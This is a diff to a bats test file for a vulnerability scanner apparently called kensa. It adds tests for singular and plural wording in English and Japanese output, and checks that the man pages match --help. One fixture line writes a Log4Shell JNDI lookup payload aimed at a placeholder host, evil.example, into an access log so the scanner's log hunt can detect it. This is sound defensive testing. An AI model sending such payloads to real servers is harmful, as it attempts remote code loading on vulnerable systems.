@@ -4,6 +4,7 @@
 # help and man page, restore's messages, and --help agreeing with the
 # man pages.
 
+bats_require_minimum_version 1.5.0
 load helpers
 
 setup_file() {
@@ -23,6 +24,25 @@ setup_file() {
     run script -qec "'$KENSA' log4j --threads 1 '$FX/plain'" /dev/null
     [[ "$output" == *" files, "* ]]
     [[ "$output" != *" 1 files"* && "$output" != *" 1 findings"* ]]
+}
+
+@test "summary of one file: 1 object, not 1 objects (Japanese has no plural)" {
+    T="$BATS_TEST_TMPDIR/one"; mkdir -p "$T"
+    echo hello > "$T/a.txt"
+    run --separate-stderr "$KENSA" scan --threads 1 --color never "$T"
+    [ "$status" -eq 0 ]
+    grep -qxF 'Scanned files: 1 (0.0 MB, 1 object)' <<<"$stderr"
+    [[ "$stderr" != *"1 objects"* ]]
+    run --separate-stderr "$KENSA" scan --threads 1 --color never --lang ja "$T"
+    grep -qxF 'スキャンしたファイル：1 件（0.0 MB、オブジェクト 1 個）' <<<"$stderr"
+    # two: the plural, as before
+    echo again > "$T/b.txt"
+    run --separate-stderr "$KENSA" scan --threads 1 --color never "$T"
+    grep -qxF 'Scanned files: 2 (0.0 MB, 2 objects)' <<<"$stderr"
+    # a log hunt with one hit in a file: "1 hit"
+    echo 'GET /?x=${jndi:ldap://evil.example/a} HTTP/1.1' > "$T/access.log"
+    run --separate-stderr "$KENSA" logs --threads 1 --color never --no-summary "$T"
+    [[ "$output" == *"access.log: 1 hit, first"* ]]
 }
 
 @test "advice wrapped to 80 columns when not a terminal, once, --no-advice drops it" {
@@ -132,6 +152,28 @@ X
     done
     grep -q '^kensa - .*logs' "$KENSA_TOP/docs/kensa.1.scd"
     "$KENSA" --help | grep -q 'fix modifies the files'
-    "$KENSA" --help | grep -q 'SIZE takes K, M or G'
+    "$KENSA" --help | grep -q 'SIZE takes K, M, G or T'
     grep -q 'K, M, G or T suffix' "$KENSA_TOP/docs/kensa.1.scd"
 }
+
+@test "man pages: every command of --help in both synopses; the Japanese page has every section of the English one" {
+    cmds=$("$KENSA" --help | sed -n '/^Commands:/,/^$/p' | grep -oE '^  [a-z0-9]+' | tr -d ' ')
+    [ "$(echo "$cmds" | wc -l)" -ge 7 ]
+    for page in kensa.1.scd kensa.ja.1.scd; do
+        for c in $cmds; do
+            grep -qE "^\*kensa\* $c( |$)" "$KENSA_TOP/docs/$page" || { echo "$page: no $c"; false; }
+        done
+        grep -q 'K, M, G\|K、M、G、T' "$KENSA_TOP/docs/$page"
+    done
+    # the same sections, in the same order (NAME .. SEE ALSO)
+    [ "$(grep -c '^# ' "$KENSA_TOP/docs/kensa.1.scd")" = "$(grep -c '^# ' "$KENSA_TOP/docs/kensa.ja.1.scd")" ]
+    # exit statuses and environment variables the English page documents
+    for w in '^\*130\*, \*143\*' '^\*TMPDIR\*' '^\*NO_COLOR\*' 'SIZE'; do
+        grep -q "$w" "$KENSA_TOP/docs/kensa.ja.1.scd" || { echo "ja: no $w"; false; }
+    done
+    # --help and both pages agree that --fix modifies files
+    grep -q -- '--fix\* は脆弱な' "$KENSA_TOP/docs/kensa.ja.1.scd"
+    grep -q 'except by \*kensa log4j --fix\*' "$KENSA_TOP/docs/kensa.1.scd"
+    "$KENSA" --help --lang ja | grep -q 'K、M、G、T'
+}
+
